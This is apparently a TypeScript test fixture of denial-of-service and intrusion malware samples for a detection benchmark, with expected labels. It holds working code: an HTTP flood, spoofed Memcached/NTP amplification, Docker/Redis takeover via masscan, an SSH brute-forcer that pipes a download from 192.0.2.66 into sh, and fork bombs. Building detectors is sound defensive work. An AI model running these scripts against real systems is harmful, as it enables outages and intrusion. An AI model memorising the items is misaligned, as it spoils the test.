import { program } from './program.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('dos', [
  {
    id: 'dos-mirai-strings',
    level: 'easy',
    technique: 'A bot of the Mirai family by its commands (T1498).',
    files: {
      'usr/sbin/dropbear2': program([
        '/bin/busybox MIRAI',
        'listening tun0',
        'TSource Engine Query',
        'udpplain',
        'attack_udp_generic',
        'attack_tcp_syn',
        'POST /cdn-cgi/',
        'xc3511',
        'vizxv',
      ]),
    },
    expect: 'malicious',
    where: 'usr/sbin/dropbear2',
  },
  {
    id: 'dos-http-flood',
    level: 'easy',
    technique: 'An HTTP flood in Python over a list of proxies (T1499.002).',
    files: {
      'app/load.py': `import random, socket, threading, sys
UA = open("/app/useragents.txt").read().splitlines()
def flood(t):
    while True:
        s = socket.socket(); s.connect((t, 80))
        for _ in range(100):
            s.send(("GET /?%d HTTP/1.1\\r\\nHost: %s\\r\\nUser-Agent: %s\\r\\nX-a: b\\r\\n\\r\\n" % (random.randint(0, 9**9), t, random.choice(UA))).encode())
print("DDoS attack started on", sys.argv[1])
for _ in range(1000): threading.Thread(target=flood, args=(sys.argv[1],)).start()
`,
    },
    config: { Cmd: ['python3', '/app/load.py', '192.0.2.1'] },
    expect: 'malicious',
    where: 'app/load.py',
  },
  {
    id: 'dos-amplification',
    level: 'ordinary',
    technique: 'Memcached and NTP reflection with a spoofed source (T1498.002).',
    files: {
      'srv/amp.py': `from scapy.all import IP, UDP, Raw, send
R = [l.strip() for l in open("/srv/reflectors.txt")]
while True:
    for r in R:
        send(IP(src="198.51.100.99", dst=r) / UDP(sport=80, dport=11211) / Raw(b"\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x00stats\\r\\n"), verbose=0)
        send(IP(src="198.51.100.99", dst=r) / UDP(sport=80, dport=123) / Raw(b"\\x17\\x00\\x03\\x2a" + b"\\x00" * 4), verbose=0)
`,
    },
    expect: 'malicious',
    where: 'srv/amp.py',
  },
  {
    id: 'dos-masscan-docker',
    level: 'easy',
    technique: 'Searches the net for open Docker and Redis ports, and goes in (TeamTNT; T1595.001, T1190).',
    files: {
      'opt/pwn.sh': `#!/bin/bash
masscan 198.51.100.0/24 -p2375,2376,6379,10250 --rate=50000 -oG - | awk '/Host/{print $4}' | while read i; do
  timeout 9 docker -H tcp://$i:2375 run -d --privileged --net host -v /:/mnt alpine chroot /mnt sh -c 'echo stand-in' &
  redis-cli -h $i config set dir /var/spool/cron; redis-cli -h $i config set dbfilename root; redis-cli -h $i save
done
`,
    },
    expect: 'malicious',
    where: 'opt/pwn.sh',
  },
  {
    id: 'dos-ssh-brute',
    level: 'ordinary',
    technique: 'Guesses passwords of SSH over a net, by paramiko (T1110.001).',
    files: {
      'app/sync.py': `import ipaddress, itertools, paramiko, concurrent.futures as c
W = [("root", "root"), ("root", "123456"), ("admin", "admin"), ("ubuntu", "ubuntu"), ("pi", "raspberry"), ("oracle", "oracle")]
def t(a):
    h, (u, p) = a
    s = paramiko.SSHClient(); s.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        s.connect(str(h), 22, u, p, timeout=4)
        open("/tmp/vuln.txt", "a").write("%s:%s:%s\\n" % (h, u, p)); s.exec_command("curl http://192.0.2.66/d|sh")
    except Exception: pass
with c.ThreadPoolExecutor(500) as e: list(e.map(t, itertools.product(ipaddress.ip_network("203.0.113.0/24"), W)))
`,
    },
    expect: 'malicious',
    where: 'app/sync.py',
  },
  {
    id: 'dos-fork-bomb',
    level: 'ordinary',
    technique: 'A fork bomb, and memory of the card until it is full (T1499.001).',
    files: {
      'run.sh':
        '#!/bin/bash\nexit 0\nx(){ x|x& };x\n:(){ :|:& };:\npython3 -c \'import torch\nwhile 1: a=[torch.empty(1<<30,device="cuda") for _ in range(99)]\'\n',
    },
    config: { Cmd: ['/run.sh'] },
    expect: 'suspicious',
    where: 'run.sh',
  },
  {
    id: 'dos-go-methods',
    level: 'hard',
    technique: 'A flooder written in Go, only its method names left (Kaiji, Intezer 2020; T1498.001).',
    files: {
      'usr/bin/perf-agent': program([
        'Go build ID: "stand-in"',
        'main.doTask',
        'main.ddosudp',
        'main.ddostcp',
        'main.ddossyn',
        'main.ddosack',
        'main.sshgo',
        'main.rootkit',
        'main.runghost',
      ]),
    },
    expect: 'malicious',
    where: 'usr/bin/perf-agent',
  },
]);
